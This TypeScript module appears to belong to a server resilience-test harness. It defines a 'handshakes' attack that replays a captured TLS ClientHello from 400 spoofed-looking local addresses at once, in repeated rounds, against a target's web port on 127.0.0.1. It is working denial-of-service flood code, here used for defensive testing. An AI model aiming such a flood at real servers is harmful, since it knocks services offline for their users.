import { once } from 'node:events';
import { type AddressInfo, connect, createServer } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { type Attack, strangerAddress } from '../attack.ts';

const atOnce = 400;

/** The first bytes of a TLS connection: cheap to repeat, dear to answer. */
async function clientHello(): Promise<Buffer> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const client = connectTls({
    port: (server.address() as AddressInfo).port,
    host: '127.0.0.1',
    rejectUnauthorized: false,
  });
  client.on('error', () => {});
  const [socket] = await once(server, 'connection');
  const [hello] = await once(socket, 'data');
  client.destroy();
  server.close();
  return hello as Buffer;
}

/** All of them say hello at once, hang up when they are answered, and come again. */
export const handshakes: Attack = {
  name: 'TLS handshakes of 400 addresses at once',
  by: 'stranger',
  unit: 'handshakes',
  async run({ target, signal, count }) {
    const hello = await clientHello();
    for (let round = 0; !signal.aborted; round += 1) {
      const sockets = Array.from({ length: atOnce }, (_, n) =>
        connect({
          host: '127.0.0.1',
          port: target.webPort,
          localAddress: strangerAddress(n, round),
        }),
      );
      for (const socket of sockets) socket.on('error', () => {});
      await Promise.race([
        Promise.all(sockets.map((socket) => once(socket, 'connect').catch(() => {}))),
        delay(2_000),
      ]);
      for (const socket of sockets) socket.write(hello);
      await Promise.race([
        Promise.all(
          sockets.map(async (socket) => {
            await Promise.race([once(socket, 'data'), once(socket, 'close')]).catch(() => {});
            count();
          }),
        ),
        delay(2_000),
      ]);
      for (const socket of sockets) socket.destroy();
    }
  },
};
